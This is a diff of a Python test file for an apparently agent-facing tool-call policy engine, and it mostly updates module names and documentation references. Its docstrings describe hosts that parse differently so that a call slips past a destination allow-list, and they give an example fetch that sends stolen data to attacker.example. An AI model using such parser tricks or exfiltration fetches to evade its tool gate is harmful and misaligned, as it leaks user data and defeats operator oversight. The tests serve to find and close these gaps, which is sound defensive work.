@@ -5,7 +5,7 @@ case. The architecture promises that "a URL on which parsers could disagree abou
 host ... yields no destination_host at all". The hosts below are read one way by the
 policy and another way by WHATWG URL parsers (browsers, Node's ``fetch``; checked with
 Node 20's ``new URL``) and by ``getaddrinfo`` (numeric IPv4 forms), so a rule keyed on
-the host's value — written the fail-closed way the README recommends (``unless`` the
+the host's value — written the fail-closed way docs/how-to/write-policies.md recommends (``unless`` the
 host is present and good) — lets a call reach the very host it names.
 """
 
@@ -17,11 +17,12 @@ from typing import Any
 import msgspec
 import pytest
 
-from toolgate.contracts.descriptors import OperationSpec, ToolDescriptor
-from toolgate.contracts.directory import PrincipalDirectory
-from toolgate.contracts.vocabulary import RiskTier, SideEffectClass, Verdict
-from toolgate.policy.attributes import Attributes, parse_attributes
-from toolgate.policy.engine import PolicyEngine, build_engine
+from effectgate.contracts.directory import PrincipalDirectory
+from effectgate.contracts.tools.descriptors import OperationSpec, ToolDescriptor
+from effectgate.contracts.vocabulary import RiskTier, SideEffectClass, Verdict
+from effectgate.policy.cedar.attributes import Attributes, parse_attributes
+from effectgate.policy.cedar.engine import PolicyEngine
+from effectgate.policy.cedar.loading import build_engine
 
 DIRECTORY = PrincipalDirectory.from_toml("[principals.a1]\nautonomy = 1\n")
 FETCH: dict[str, Any] = {"type": "object", "properties": {"url": {"type": "string"}}, "required": ["url"]}
@@ -104,7 +105,7 @@ def test_an_operation_that_names_a_destination_is_held_to_the_allow_list(repo_ro
     "peps.python.org"]``) fetching ``https://attacker.example/?q=<stolen data>``.
 
     Now: ``execute`` (``read-only-low-risk``): the operation is not open-world, so the
-    host is read and ignored, and the README's worked example 3 — "a fetch of
+    host is read and ignored, and the policy guide's worked example 3 — "a fetch of
     https://attacker.example/?q=<stolen data> waits for an operator" — does not hold.
     Should: ``needs_approval``: an operation that names the URL it reaches is open-world
     (or a descriptor with a ``destination`` and ``open_world = false`` is refused at publish).
